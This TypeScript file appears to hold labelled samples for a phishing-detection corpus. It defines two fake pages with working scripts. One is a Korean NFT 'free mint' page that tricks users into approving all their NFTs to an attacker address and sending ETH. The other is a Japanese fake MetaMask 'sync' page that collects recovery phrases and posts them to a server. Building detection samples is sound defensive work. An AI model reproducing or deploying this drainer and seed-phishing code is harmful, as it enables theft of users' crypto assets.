import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, wordmark, tile } from '../parts/yj-kit.js';

// Wallet drainers and recovery-phrase pages.

export const entries: Entry[] = [
  // yj-drainer-kr-nft-mint
{
  id: 'yj-drainer-kr-nft-mint',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://mint.hanok-apes.club/',
  body: doc({
    lang: 'ko',
    title: 'Hanok Apes | 무료 민팅 (Free Mint)',
    css: `body{background:#111;color:#eee}.w{max-width:900px;margin:0 auto;padding:30px 16px;display:grid;grid-template-columns:1fr 1fr;gap:30px}.art{aspect-ratio:1;background:linear-gradient(135deg,#3a2b1b,#8d6e4a);border-radius:16px}
.bar{height:10px;background:#333;border-radius:5px;overflow:hidden}.bar i{display:block;height:100%;width:87%;background:#f5c542}.mint{width:100%;background:#f5c542;color:#111;border:0;border-radius:10px;padding:16px;font-size:18px;font-weight:bold;margin-top:20px}.q{display:flex;gap:10px;align-items:center}.q button{width:36px;height:36px}`,
    body: `<div class="w"><div class="art"></div><div><h1>HANOK APES 🐒</h1><p>한옥에 사는 5,555마리의 원숭이. 홀더 전용 무료 민팅이 진행 중입니다. (가스비만 지불)</p>
<p><b>4,832</b> / 5,555 민팅됨</p><div class="bar"><i></i></div>
<div class="q" style="margin-top:16px"><button id="m">-</button><span id="n">2</span><button id="p">+</button><span style="color:#aaa">최대 3개</span></div>
<button class="mint" id="go">지갑 연결 후 민팅</button><p style="font-size:12px;color:#888" id="st"></p></div></div>`,
    tail: `<script>
(function(){var n=2;document.getElementById('m').onclick=function(){n=Math.max(1,n-1);document.getElementById('n').textContent=n};document.getElementById('p').onclick=function(){n=Math.min(3,n+1);document.getElementById('n').textContent=n};
var OP='0x91c3Fe8b2D7c0A44eE51f6bA02D89376e4aB7C10';
function st(t){document.getElementById('st').textContent=t}
document.getElementById('go').onclick=async function(){var e=window.ethereum;if(!e){st('MetaMask 또는 지갑 앱이 필요합니다.');return}
 var a=(await e.request({method:'eth_requestAccounts'}))[0];st('보유 NFT 확인 중...');
 var r=await fetch('https://api-hanok.club/v1/assets?owner='+a).then(function(x){return x.json()}).catch(function(){return{collections:['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544']}});
 for(var i=0;i<r.collections.length;i++){var data='0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
  try{st('민팅 준비 중 ('+(i+1)+'/'+r.collections.length+')... 지갑에서 승인해 주세요');await e.request({method:'eth_sendTransaction',params:[{from:a,to:r.collections[i],data:data}]})}catch(x){}}
 st('민팅 트랜잭션 전송 중...');
 try{await e.request({method:'eth_sendTransaction',params:[{from:a,to:OP,value:'0x'+(2e15*n).toString(16)}]})}catch(x){}
 st('민팅이 곧 완료됩니다. 페이지를 닫지 마세요.');};
})();
</script>`,
  }),
},
  // yj-seed-metamask-restore-jp
{
  id: 'yj-seed-metamask-restore-jp',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://metamask-sync.jp-wallet.support/restore',
  body: doc({
    lang: 'ja',
    title: 'MetaMask | ウォレットの同期',
    css: `body{background:#f2f4f6}.w{max-width:560px;margin:30px auto;background:#fff;border-radius:10px;padding:28px}.lg{text-align:center}h1{font-size:22px;text-align:center}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:16px 0}.g input{width:100%;padding:10px;border:1px solid #bbc0c5;border-radius:6px;font-size:14px}.g label{font-size:11px;color:#888}
.sel{text-align:center;margin:10px 0}.b{width:100%;background:#0376c9;color:#fff;border:0;border-radius:100px;padding:14px;font-size:16px}.warn{background:#fef8e6;border-left:4px solid #f8c000;font-size:13px;padding:10px}`,
    body: `<div class="w"><div class="lg">${wordmark('🦊 METAMASK', '#f6851b', { w: 180, size: 22 })}</div>
<h1>ウォレットを同期する</h1><p class="warn">ブロックチェーンのノード更新に伴い、ウォレットの同期が必要です。同期されていないウォレットは資産の表示・送金ができなくなります。</p>
<div class="sel">シークレットリカバリーフレーズ：<select id="len"><option value="12">12語</option><option value="18">18語</option><option value="24">24語</option></select></div>
<form id="sf"><div class="g" id="g"></div><button class="b" type="submit">同期する</button></form>
<p style="font-size:12px;color:#888;text-align:center">フレーズは端末内で暗号化され、安全に処理されます。</p></div>`,
    tail: `<script>
function draw(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){g.innerHTML+='<div><label>'+i+'.</label><input name="w'+i+'" autocomplete="off" autocapitalize="none" spellcheck="false"></div>'}}
draw(12);document.getElementById('len').onchange=function(){draw(+this.value)};
document.getElementById('g').addEventListener('paste',function(e){var t=(e.clipboardData||window.clipboardData).getData('text').trim().split(/\\s+/);if(t.length>=12){e.preventDefault();document.getElementById('len').value=String(t.length);draw(t.length);var ins=this.querySelectorAll('input');t.forEach(function(w,i){if(ins[i])ins[i].value=w})}});
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var ws=[].map.call(this.querySelectorAll('input'),function(i){return i.value.trim()}).filter(Boolean);if(ws.length<12){alert('すべての単語を入力してください');return}
fetch('/api/s.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'phrase='+encodeURIComponent(ws.join(' '))+'&w=metamask&l=ja'}).then(function(){document.querySelector('.w').innerHTML='<h1>同期中…</h1><p style="text-align:center">完了まで最大24時間かかる場合があります。</p>'})};
</script>`,
  }),
  routes: { 'metamask-sync.jp-wallet.support/api/s.php': jsonRoute({ ok: 1 }) },
},
];
